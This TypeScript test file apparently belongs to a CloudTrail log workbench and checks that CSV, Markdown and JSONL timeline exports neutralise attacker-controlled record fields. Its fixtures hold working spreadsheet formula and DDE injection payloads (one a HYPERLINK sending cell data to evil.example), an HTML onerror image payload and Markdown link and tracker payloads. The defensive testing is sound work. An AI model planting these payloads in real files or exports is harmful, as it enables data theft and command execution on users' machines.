// A hostile CloudTrail record (every text field chosen by the attacker) exported from the workbench
// API: no CSV cell can start a formula, no Markdown cell can carry markup, break the table or turn
// into a link or an image, and the JSONL line is plain JSON.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { openCase } from '../db/open-case.ts';
import { ingestPaths } from '../ingest/pipeline.ts';
import { openWorkbench } from '../api/open-workbench.ts';
import { mdCell } from './timeline-formats.ts';
import type { ExportResult } from '../../../shared/api/types.ts';
import { removeFolder } from '../../../test-support/remove-folder.ts';

const HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', '+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1'];

function hostileRecord(i: number, agent: string) {
  return {
    eventVersion: '1.08',
    eventID: `00000000-0000-4000-8000-00000000000${i}`,
    eventTime: `2024-05-01T10:00:0${i}Z`,
    eventSource: 'iam.amazonaws.com',
    eventName: 'CreateAccessKey',
    awsRegion: 'us-east-1',
    sourceIPAddress: '203.0.113.7',
    userAgent: agent,
    readOnly: false,
    recipientAccountId: '111122223333',
    userIdentity: { type: 'IAMUser', arn: `arn:aws:iam::111122223333:user/<img src=x onerror=alert(${i})>|x`, accountId: '111122223333', userName: 'mallory', accessKeyId: 'AKIAEXAMPLEEXAMPLE01' },
    errorCode: i === 0 ? '=cmd|\'/c calc\'!A1' : undefined,
  };
}

test('CSV, Markdown and JSONL exports of hostile records are inert', async (t) => {
  const dir = mkdtempSync(join(tmpdir(), 'trailscope-hostile-export-'));
  t.after(() => removeFolder(dir));
  const file = join(dir, 'trail.json');
  writeFileSync(file, JSON.stringify({ Records: HOSTILE.map((a, i) => hostileRecord(i, a)) }));
  const casePath = join(dir, 'hostile.case');
  const db = openCase(casePath);
  await ingestPaths(db, [file]);
  db.close();
  const wb = openWorkbench(casePath);
  t.after(() => wb.close());
  const exported = async (format: string) => {
    const r = await wb.dispatch('export:timeline', { filter: { includeReadOnly: true }, format });
    assert.ok(r.ok, JSON.stringify(r));
    return r.value as ExportResult;
  };

  const csv = await exported('csv');
  assert.equal(csv.rows, HOSTILE.length);
  // Split into cells the way a spreadsheet does (quoted cells may hold commas, quotes, CR).
  const cells: string[] = [];
  for (const m of csv.content.matchAll(/(?:^|,)("(?:[^"]|"")*"|[^,\r\n]*)/gm)) {
    const raw = m[1];
    cells.push(raw.startsWith('"') ? raw.slice(1, -1).replace(/""/g, '"') : raw);
  }
  for (const agent of HOSTILE) assert.ok(cells.includes(`'${agent}`), `user agent ${JSON.stringify(agent)} is guarded`);
  for (const c of cells) assert.doesNotMatch(c, /^[=+\-@\t\r]/, `a cell starts a formula: ${JSON.stringify(c)}`);

  const md = await exported('markdown');
  assert.doesNotMatch(md.content, /<img|<script/i);
  const body = md.content.split('\n').filter((l) => l.startsWith('| 2024'));
  assert.equal(body.length, HOSTILE.length);
  // Every data row keeps the header's eight cells: a | in the data cannot add a column.
  for (const line of body) assert.equal(line.split(/(?<!\\)\|/).length - 2, 8, line);

  // The filter that produced the table is said above it, escaped like a cell (a hostile query stays text).
  assert.match(md.content, /^Filters: none \(every event of the case\)\n\n\| Time/);
  const filtered = await wb.dispatch('export:timeline', { filter: { query: 'eventName:Create* <b>|x', errorsOnly: true }, format: 'markdown' });
  assert.ok(filtered.ok, JSON.stringify(filtered));
  assert.match((filtered.value as ExportResult).content, /^Filters: query "eventName:Create\\\* &lt;b&gt;\\\|x"; errors only; read-only calls hidden\n/);

  const jsonl = await exported('jsonl');
  const agents = jsonl.content.trim().split('\n').map((l) => (JSON.parse(l) as { user_agent: string }).user_agent);
  assert.deepEqual(agents.sort(), [...HOSTILE].sort());
});

test('Markdown cells show the record text as it is: entities, links and images stay text', () => {
  // An entity in the data must not render as the character it names.
  assert.equal(mdCell('&lt;b&gt; &amp;'), '&amp;lt;b&amp;gt; &amp;amp;');
  assert.equal(mdCell('![x](http://tracker.example/p.png)'), '!\\[x\\](http://tracker.example/p.png)');
  assert.equal(mdCell('<https://evil.example>'), '&lt;https://evil.example&gt;');
});
